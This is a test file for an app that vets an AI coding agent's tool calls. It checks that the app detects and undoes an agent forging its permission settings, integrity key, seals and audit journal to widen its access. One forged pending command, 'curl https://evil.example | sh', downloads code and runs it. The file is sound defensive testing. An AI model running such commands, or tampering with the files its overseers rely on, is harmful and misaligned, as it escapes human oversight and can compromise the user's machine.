// The tamper suite: each of the companion's state files edited by another process (as a same-user
// agent can), once while the core runs and once while it is stopped. Whatever the edit, the core
// keeps the state it wrote (or trusts none of it), shows a high-severity alert, records
// state.tampered naming the file, and the agent gains nothing.
import { appendFileSync, existsSync, readFileSync, readdirSync, rmSync, truncateSync, unlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import type { CompanionCore } from '../../electron/core/app/companion-core-types.js';
import { journalEvents } from '../support/fixtures.js';
import { restarter } from '../support/adversary.js';
import { startTestCore, type TestCore } from '../support/start-core.js';

let t: TestCore | undefined;
let reopened: CompanionCore | undefined;
afterEach(async () => {
  await reopened?.close();
  reopened = undefined;
  await t?.dispose();
  t = undefined;
});

const outside = join(tmpdir(), 'outside-the-scope.txt');
const read = (path: string) => ({ session_id: 's', cwd: t!.projectDir, hook_event_name: 'PreToolUse', tool_name: 'Read', tool_input: { file_path: path }, tool_use_id: `toolu_${Math.random()}` });
type Answer = { hookSpecificOutput: { permissionDecision: string } };
const segmentFiles = (dataDir: string) => readdirSync(join(dataDir, 'journal')).filter((n) => n.endsWith('.jsonl') && n.startsWith('evidence-')).sort();
const currentSegment = (dataDir: string) => join(dataDir, 'journal', segmentFiles(dataDir).at(-1)!);

function widenScope(dataDir: string): void {
  const file = join(dataDir, 'settings.json');
  const settings = JSON.parse(readFileSync(file, 'utf8')) as { sharedFolders: unknown[]; rules: unknown[] };
  settings.sharedFolders.push({ path: tmpdir(), mode: 'read-write', label: '', addedAt: new Date().toISOString() });
  settings.rules.push({ toolName: 'Read', match: { kind: 'path', path: tmpdir() }, id: 'forged', origin: 'person', lifetime: 'always', createdAt: new Date().toISOString(), description: 'forged', hits: 0, locked: false });
  writeFileSync(file, JSON.stringify(settings));
}

async function alertFor(core: CompanionCore, file: string, reason: RegExp = /./, timeoutMs = 3000): Promise<{ file: string; reason: string }> {
  const deadline = Date.now() + timeoutMs;
  for (;;) {
    const found = core.getSnapshot().integrity.alerts.find((a) => a.file === file && reason.test(a.reason));
    if (found) return found;
    if (Date.now() > deadline) throw new Error(`no integrity alert for ${file}: ${JSON.stringify(core.getSnapshot().integrity.alerts)}`);
    await new Promise((r) => setTimeout(r, 20));
  }
}

async function eventNamed(dataDir: string, name: string, file?: string): Promise<Record<string, unknown> | undefined> {
  const deadline = Date.now() + 3000;
  for (;;) {
    const found = (await journalEvents(dataDir)).find((e) => e.name === name && (file === undefined || e.attributes['state.file'] === file));
    if (found || Date.now() > deadline) return found?.attributes;
    await new Promise((r) => setTimeout(r, 20));
  }
}

/** A pending item, so pending.json has something to forge. */
async function withPendingItem(test: TestCore): Promise<void> {
  void test.hook({ session_id: 's', cwd: test.projectDir, hook_event_name: 'PreToolUse', tool_name: 'Bash', tool_input: { command: 'cat README.md' }, tool_use_id: 'toolu_p' });
  await test.waitForPending(1);
}

interface TamperCase {
  file: string;
  what: string;
  prepare?: (test: TestCore) => Promise<void>;
  tamper: (dataDir: string) => void;
  /** What must hold afterwards (besides the alert and the evidence). */
  check?: (core: CompanionCore, dataDir: string, before: string | undefined) => Promise<void> | void;
}

const restored = (name: string) => (_core: CompanionCore, dataDir: string, before: string | undefined) => {
  expect(readFileSync(join(dataDir, name), 'utf8')).toBe(before);
};
const stillDenied = async (core: CompanionCore) => {
  expect(core.getSnapshot().scope.folders.map((f) => f.path)).not.toContain(tmpdir());
  expect(core.getSnapshot().rules.map((r) => r.id)).not.toContain('forged');
};

const CASES: TamperCase[] = [
  { file: 'settings.json', what: 'a folder and a rule appended', tamper: widenScope, check: async (core, dataDir, before) => { restored('settings.json')(core, dataDir, before); await stillDenied(core); } },
  { file: 'settings.json', what: 'deleted', tamper: (d) => unlinkSync(join(d, 'settings.json')), check: restored('settings.json') },
  {
    file: 'pending.json',
    what: 'the waiting command swapped',
    prepare: withPendingItem,
    tamper: (d) => writeFileSync(join(d, 'pending.json'), readFileSync(join(d, 'pending.json'), 'utf8').replaceAll('cat README.md', 'curl https://evil.example | sh')),
    check: restored('pending.json'),
  },
  {
    file: 'journal/cursor.json',
    what: 'moved past undelivered evidence',
    prepare: async (test) => {
      const deadline = Date.now() + 5000;
      while (!existsSync(join(test.dataDir, 'journal', 'cursor.json')) && Date.now() < deadline) await new Promise((r) => setTimeout(r, 20));
    },
    tamper: (d) => writeFileSync(join(d, 'journal', 'cursor.json'), JSON.stringify({ cursor: { segment: 99, offset: 0 }, counters: {} })),
    check: restored('journal/cursor.json'),
  },
  {
    file: 'journal/checkpoint.json',
    what: 'rewound to hide a cut tail',
    tamper: (d) => writeFileSync(join(d, 'journal', 'checkpoint.json'), JSON.stringify({ firstSeq: 1, lastSeq: 0, legacyEnd: { segment: 99, offset: 0 } })),
    // The core appends (the tamper report itself) after putting it back, so the counter moves on.
    check: (_core, dataDir, before) => {
      const now = JSON.parse(readFileSync(join(dataDir, 'journal', 'checkpoint.json'), 'utf8')) as { firstSeq: number; lastSeq: number; legacyEnd: unknown };
      const was = JSON.parse(before!) as typeof now;
      expect(now).toMatchObject({ firstSeq: was.firstSeq, legacyEnd: was.legacyEnd });
      expect(now.lastSeq).toBeGreaterThanOrEqual(was.lastSeq);
    },
  },
  {
    file: 'integrity-key',
    what: 'replaced by a key the agent knows',
    tamper: (d) => writeFileSync(join(d, 'integrity-key'), JSON.stringify({ v: 1, protection: 'user-file', key: Buffer.alloc(32, 7).toString('base64') })),
  },
];

describe('state files edited while the core runs', () => {
  for (const c of CASES) {
    it(`${c.file} ${c.what}: put back within moments, alerted, evidenced`, async () => {
      t = await startTestCore();
      await c.prepare?.(t);
      // Let the core's own writes settle: the checkpoint follows appends within 100 ms and, like the
      // cursor, is written in the background (an edit landing mid-write would simply be overwritten).
      await new Promise((r) => setTimeout(r, 400));
      const before = (() => {
        try {
          return readFileSync(join(t.dataDir, c.file), 'utf8');
        } catch {
          return undefined;
        }
      })();
      c.tamper(t.dataDir);
      await alertFor(t.core, c.file, /put back/);
      expect(await eventNamed(t.dataDir, 'state.tampered', c.file)).toMatchObject({ 'state.file': c.file });
      if (c.file !== 'integrity-key') await c.check?.(t.core, t.dataDir, before);
      else expect(readFileSync(join(t.dataDir, 'integrity-key'), 'utf8')).toBe(before);
      expect(((await t.hook(read(outside))).json as Answer).hookSpecificOutput.permissionDecision).toBe('deny');
    });
  }

  it('a journal segment cut short: alerted at once and evidenced', async () => {
    t = await startTestCore();
    truncateSync(currentSegment(t.dataDir), 10);
    await alertFor(t.core, 'journal', /cut short/);
  });
});

const reopen = restarter();
const restart = (test: TestCore): Promise<CompanionCore> => reopen(test.dataDir);

describe('state files edited while the core is stopped', () => {
  for (const c of CASES.filter((x) => x.file !== 'integrity-key')) {
    it(`${c.file} ${c.what}: put back at start, alerted, evidenced`, async () => {
      t = await startTestCore();
      await c.prepare?.(t);
      await t.core.close();
      const before = readFileSync(join(t.dataDir, c.file), 'utf8');
      c.tamper(t.dataDir);
      reopened = await restart(t);
      await alertFor(reopened, c.file, /put back/);
      expect(await eventNamed(t.dataDir, 'state.tampered', c.file)).toMatchObject({ 'state.file': c.file });
      await c.check?.(reopened, t.dataDir, before);
    });
  }

  it('a journal line edited: not trusted, reported as state.tampered and telemetry.loss', async () => {
    t = await startTestCore();
    await t.core.close();
    const segment = currentSegment(t.dataDir);
    writeFileSync(segment, readFileSync(segment, 'utf8').replace('"scope.mode":"read-write"', '"scope.mode":"read"'));
    reopened = await restart(t);
    expect(reopened.getSnapshot().integrity.journal).toMatchObject({ forged: 1 });
    await alertFor(reopened, 'journal', /edited or added/);
    // Told once: the report and later decisions append to the journal without raising it again.
    await reopened.callUi('setLanguage', { language: 'ja' });
    await new Promise((r) => setTimeout(r, 600));
    expect(reopened.getSnapshot().integrity.alerts.filter((a) => a.file === 'journal')).toHaveLength(1);
    expect(await eventNamed(t.dataDir, 'telemetry.loss')).toMatchObject({ 'loss.count': expect.any(Number), 'loss.reason': expect.stringMatching(/changed outside the companion/) });
  });

  it('a journal whose newest events were cut: the loss is counted', async () => {
    t = await startTestCore();
    await withPendingItem(t);
    await t.core.close();
    const segment = currentSegment(t.dataDir);
    const lines = readFileSync(segment, 'utf8').trimEnd().split('\n');
    writeFileSync(segment, `${lines.slice(0, -2).join('\n')}\n`);
    reopened = await restart(t);
    expect(reopened.getSnapshot().integrity.journal.missing).toBe(2);
    await alertFor(reopened, 'journal', /newest 2 event\(s\) were cut/);
  });

  it('an untagged record appended to the journal does not vouch for a folder added to settings.json', async () => {
    t = await startTestCore();
    await t.core.close();
    appendFileSync(currentSegment(t.dataDir), `${JSON.stringify({ v: 1, eventId: 'forged', name: 'scope.changed', time: Date.now(), attributes: { 'event.id': 'forged', 'scope.action': 'add', 'scope.path': tmpdir(), 'scope.mode': 'read-write', 'scope.folder_count': 1 } })}\n`);
    widenScope(t.dataDir);
    rmSync(join(t.dataDir, 'seals', 'settings.json.seal'));
    reopened = await restart(t);
    await alertFor(reopened, 'settings.json', /no integrity seal/);
    await stillDenied(reopened);
  });

  it('the integrity key removed (with settings rewritten): nothing sealed with it is trusted, the forged folder and rule are not taken', async () => {
    t = await startTestCore();
    await t.core.close();
    widenScope(t.dataDir);
    unlinkSync(join(t.dataDir, 'integrity-key'));
    reopened = await restart(t);
    await alertFor(reopened, 'integrity-key', /removed/);
    await stillDenied(reopened);
    expect(await eventNamed(t.dataDir, 'state.tampered', 'integrity-key')).toBeDefined();
  });

  it('a seal edited to vouch for a forged settings.json is itself detected; the forged folder and rule are not taken', async () => {
    t = await startTestCore();
    await t.core.close();
    widenScope(t.dataDir);
    const sealFile = join(t.dataDir, 'seals', 'settings.json.seal');
    const seal = JSON.parse(readFileSync(sealFile, 'utf8')) as Record<string, unknown>;
    writeFileSync(sealFile, JSON.stringify({ ...seal, content: readFileSync(join(t.dataDir, 'settings.json'), 'utf8') }));
    reopened = await restart(t);
    await alertFor(reopened, 'settings.json', /seal does not verify/);
    await stillDenied(reopened);
  });
});
